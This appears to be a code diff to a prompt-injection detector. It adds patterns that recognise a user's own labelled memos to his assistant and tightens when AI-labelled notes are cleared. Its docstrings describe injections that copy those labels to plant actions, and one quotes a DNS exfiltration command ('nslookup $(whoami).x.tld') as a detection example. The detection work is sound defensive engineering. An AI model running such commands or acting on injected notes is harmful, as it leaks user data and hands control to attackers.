@@ -407,6 +407,20 @@ _AI_LABEL = re.compile(r"(?:^|[\s'\"«“(\[])(?:the |dear |all |any )?(?:ai|a\.
                        r"ии|ассистент\w*|бот\w*|агент\w*|помощник\w*|нейросет\w*)(?:[ -][\w-]+){0,2} ?(?::|—|–)", re.IGNORECASE)
 
 
+# the user's own memo to his assistant, the label opening the note: "Agent rule: …", "Note for my AI: …", «Для бота: …»
+_OWN_MEMO = re.compile(r"(?i)\s*(?:agent rule|(?:a )?note (?:for|to) (?:my |the )?(?:ai|assistant|agent|bot)|(?:for|to) (?:my |the )?"
+                       r"(?:family |telegram |own )?(?:ai|assistant|agent|bot)|(?:my )?(?:ai|assistant|agent)|"
+                       r"(?:мо\w+ )?(?:правил\w*|заметк\w*) для (?:бота|ассистента|агента|ии)|для (?:бота|ассистента|агента|ии)|"
+                       r"ассистент\w*|агент\w*|бот\w*|ии)(?: [\w-]+){0,2} ?(?::|—|–)")
+OWN_MEMO_MARGIN = 4.5
+"""How far below its threshold the reader must score a note that opens with the user's own label for his assistant ("Agent
+rule:", "Note for my AI:", «Для бота:») to overrule the phrase rules' order: those notes are his rules and routines for it,
+and their attack twins, pasted in under the same labels, plant acts the reader knows. Measured at stop 45 on rounds the
+reader never saw (54–69): of the notes opening so that the rules refused as addressed to the agent, 10 of 25 ordinary notes
+kept and none of 62 injections lost in the opened rounds; 7 of 21 and 1 of 60 in the never-opened ones (3.0 below: 13 of
+21 and 3 of 60)."""
+
+
 SHOWN_MARGIN = 3.0
 """How far below its threshold the reader must score a note that speaks of attacks for its opinion to keep an attack's shape
 the rules found in it (`shows_only`: "Detection idea for the sandbox: flag commands like `nslookup $(whoami).x.tld`", "Known
@@ -428,8 +442,10 @@ def clears(text: str, kind: str, reader: Model | None = None) -> bool:
     words or more with no part labelled for an AI, that the reader scores CLEAR_MARGIN or more below its threshold — a note
     its training tells from every injection it saw (the user's rule «Правило: платёжки ты только готовишь как черновик», a scam
     he read about), where one word of the rules' lists stood in for an order."""
-    if kind not in SECOND_OPINION or _AI_LABEL.search(text):
+    if kind not in SECOND_OPINION:
         return False
+    if _AI_LABEL.search(text):  # (a part labelled for an AI: only the user's own memo to it, far below)
+        return _OWN_MEMO.match(text) is not None and _far_below(text, reader or model(), OWN_MEMO_MARGIN)
     return _far_below(text, reader or model(), CLEAR_MARGIN)  # (`reader`: another model's, for the trainer's measures)
 
 
